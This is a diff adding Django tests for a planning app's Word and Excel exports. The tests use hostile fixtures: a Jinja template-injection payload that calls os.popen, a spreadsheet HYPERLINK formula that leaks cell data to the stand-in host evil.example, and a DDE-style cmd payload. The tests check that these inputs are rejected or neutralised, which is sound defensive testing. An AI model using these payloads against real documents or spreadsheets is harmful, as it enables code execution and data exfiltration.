@@ -169,6 +169,58 @@ class PlanExportTests(TestCase):
         self.assertRedirects(response, self.plan.get_absolute_url())
         self.assertIn("Không điền được mẫu Word: ", response.content.decode())
 
+    def _payload_docx(self, mark: Path) -> bytes:
+        evil = docx.Document(io.BytesIO(selectors.DEFAULT_TEMPLATE.read_bytes()))
+        evil.add_paragraph(f"{{{{ cycler.__init__.__globals__.os.popen('touch {mark}').read() }}}}")
+        evil.add_paragraph("{{ ''.__class__.__mro__ }}")
+        buffer = io.BytesIO()
+        evil.save(buffer)
+        return buffer.getvalue()
+
+    def test_a_template_that_runs_code_is_refused_at_upload_and_runs_nothing(self):
+        with tempfile.TemporaryDirectory() as folder:
+            mark = Path(folder) / "ran"
+            with self.assertRaises(ValidationError) as caught:
+                services.template_upload(unit=self.world.dept_a, file=upload("doc.docx", self._payload_docx(mark)),
+                                         actor=self.world.users["admin"])
+            self.assertFalse(mark.exists())
+        self.assertEqual(caught.exception.message_dict, {"file": [
+            "Mẫu Word dùng thao tác không được phép: access to attribute '__init__' of 'StrictUndefined' object is unsafe."]})
+        self.assertEqual(PlanTemplate.objects.count(), 0)
+
+    def test_a_stored_template_that_runs_code_fails_the_export_safely(self):
+        with tempfile.TemporaryDirectory() as folder:
+            mark = Path(folder) / "ran"
+            data = self._payload_docx(mark)
+            with scratch_media():  # stored before uploads were checked in the sandbox
+                template = PlanTemplate.objects.create(unit=self.world.dept_a, file=upload("doc.docx", data))
+            restore(template.file, data)
+            response = self.client.get(reverse("documents:plan_docx", args=[self.plan.pk]), follow=True)
+            self.assertFalse(mark.exists())
+        self.assertRedirects(response, self.plan.get_absolute_url())
+        self.assertContains(response, "Mẫu Word dùng thao tác không được phép: access to attribute")
+
+    def test_a_template_whose_file_is_gone_is_named_not_a_server_error(self):
+        with scratch_media():  # the file is stored in a folder deleted afterwards: the record outlives it
+            template = PlanTemplate.objects.create(unit=self.world.dept_a, file=upload("doc.docx", b"PK\x03\x04"))
+        response = self.client.get(reverse("documents:plan_docx", args=[self.plan.pk]), follow=True)
+        self.assertRedirects(response, self.plan.get_absolute_url())
+        self.assertContains(response, "Tệp mẫu Word đã tải lên không còn trong kho lưu trữ; hãy tải lên lại hoặc xóa mẫu này.")
+        self.client.force_login(self.world.users["admin"])
+        self.assertEqual(self.client.get(reverse("documents:template_download", args=[template.pk])).status_code, 404)
+
+    def test_text_that_starts_like_a_formula_is_written_as_text_in_the_task_list(self):
+        task = self.plan.tasks.order_by("position").first()
+        type(task).objects.filter(pk=task.pk).update(title='=HYPERLINK("http://evil.example/?"&A1,"Bấm")',
+                                                     lead_text="@SUM(1+1)*cmd|' /C calc'!A0")
+        response = self.client.get(reverse("documents:plan_xlsx", args=[self.plan.pk]))
+        sheet = load_workbook(io.BytesIO(response.content)).active
+        title, lead, percent = sheet["C2"], sheet["E2"], sheet["L2"]
+        self.assertEqual((title.value, title.data_type), ("'=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm\")", "s"))
+        self.assertEqual((lead.value, lead.data_type), ("'@SUM(1+1)*cmd|' /C calc'!A0", "s"))
+        self.assertEqual((percent.value, percent.data_type), (0, "n"))
+        self.assertFalse([c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"])
+
     def test_libreoffice_opens_the_word_file_the_appendix_in_landscape(self):
         soffice = shutil.which("soffice") or shutil.which("libreoffice")
         if soffice is None:
